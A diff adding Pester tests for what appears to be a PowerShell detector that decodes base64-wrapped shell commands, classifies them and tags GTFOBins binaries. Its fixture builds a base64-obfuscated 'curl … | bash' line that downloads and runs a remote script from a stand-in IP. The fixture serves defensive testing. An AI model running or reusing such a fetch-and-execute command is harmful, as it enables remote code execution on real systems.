@@ -326,3 +326,26 @@ Describe 'Day-first dates follow the session culture or -DateFormat' {
         }
     }
 }
+
+Describe 'Text followed by control bytes in a trailing comment is text' {
+    BeforeAll {
+        function script:Encode([byte[]] $Bytes) { 'echo ' + [Convert]::ToBase64String($Bytes) + ' | base64 -d | bash' }
+        $script:Script = [System.Text.Encoding]::ASCII.GetBytes('curl -s http://203.0.113.7/a.sh | bash ')
+    }
+
+    It 'classifies the text and tags its binaries, keeping the tail escaped' {
+        $e = Encode ($Script + [byte[]](0x23, 0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Add-B64Category | Add-GtfoBinsTag
+        $e.IsBinary | Should -BeFalse
+        $e.DecodedCommand | Should -BeLike 'curl -s http://203.0.113.7/a.sh | bash #\x01\x02\x7f\x00*'
+        $e.Categories | Should -Contain 'Network connections/Downloading'
+        $e.GtfoBins.Name | Should -Contain 'curl'
+    }
+
+    It 'keeps control bytes that are not in a final comment, or a long binary tail, as binary' {
+        # No text event comes out of them (the decoder keeps them as binary or drops them as noise).
+        Encode ($Script + [byte[]](0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
+        $long = [byte[]]::new(200); [System.Random]::new(7).NextBytes($long)
+        (Encode ($Script + [byte[]](0x23) + $long) | Get-B64Command).IsBinary | Should -BeTrue
+        Encode ([byte[]](0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00) * 8 + [byte[]](0x23, 0x01)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
+    }
+}
